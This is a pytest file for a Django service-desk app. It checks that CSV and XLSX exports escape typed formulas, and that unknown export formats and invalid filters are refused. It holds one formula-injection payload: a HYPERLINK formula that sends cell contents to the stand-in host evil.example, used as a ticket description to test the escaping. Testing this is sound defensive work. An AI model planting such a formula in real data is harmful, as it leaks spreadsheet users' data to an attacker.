"""Exports open safely in a spreadsheet: typed text never runs as a formula, an unknown format
or a filter that is not valid is refused (never the whole list in place of a filtered one)."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import openpyxl
import pytest

from servicebook.agreements.models import Agreement
from servicebook.core.models import User
from servicebook.core.spreadsheets import safe_cell
from servicebook.levels.selfservice import services as portal

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.mark.parametrize(
    ("typed", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+33 1 23", "'+33 1 23"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("plain", "plain"),
        (-2, -2),
        (None, None),
    ],
)
def test_safe_cell(typed, written):
    assert safe_cell(typed) == written


@pytest.fixture
def formula_ticket(users):
    requester = User.objects.get(username="external-requester")
    agreement = Agreement.objects.filter(customer=requester.customer, status="active").first()
    return portal.raise_ticket(
        actor=requester,
        agreement=agreement,
        kind="incident",
        short_description=FORMULA,
        impact=2,
        urgency=2,
    )


def test_ticket_exports_write_typed_formulas_as_text(formula_ticket, users, web_for):
    client = web_for(users["manager"])
    url = f"/service-levels/{formula_ticket.agreement_id}/tickets/"
    text = client.get(url, {"_export": "csv"}).content.decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert "'" + FORMULA in cells and FORMULA not in cells
    book = openpyxl.load_workbook(io.BytesIO(client.get(url, {"_export": "xlsx"}).content))
    values = [cell for row in book.active.iter_rows() for cell in row]
    found = [cell for cell in values if cell.value and "HYPERLINK" in str(cell.value)]
    assert found and all(cell.data_type == "s" for cell in found)


@pytest.mark.parametrize("export", ["pdf", "CSV", "", "json"])
def test_an_unknown_export_format_is_refused(export, users, web_for):
    response = web_for(users["manager"]).get("/agreements/", {"_export": export})
    assert response.status_code == 400
    assert "_export" in response.content.decode()


def test_an_export_with_a_filter_that_is_not_valid_is_refused(users, web_for):
    response = web_for(users["finance"]).get(
        "/finance/invoices/", {"status": "bogus", "_export": "csv"}
    )
    assert response.status_code == 400
    assert "status" in response.content.decode()


def test_the_rejects_file_writes_typed_formulas_as_text(users, tmp_path, settings):
    from servicebook.core import jobs
    from servicebook.core.models import Job

    settings.SERVICEBOOK_JOBS_DIR = tmp_path
    job = Job.objects.create(kind="levels.import_tickets", title="t", user=users["manager"])
    path = jobs.write_rejects(job, ["number", "summary"], [(2, {"number": "=1+1"}, "bad")])
    rows = list(csv.reader(io.StringIO(Path(path).read_text(encoding="utf-8"))))
    assert rows[1] == ["2", "bad", "'=1+1", ""]
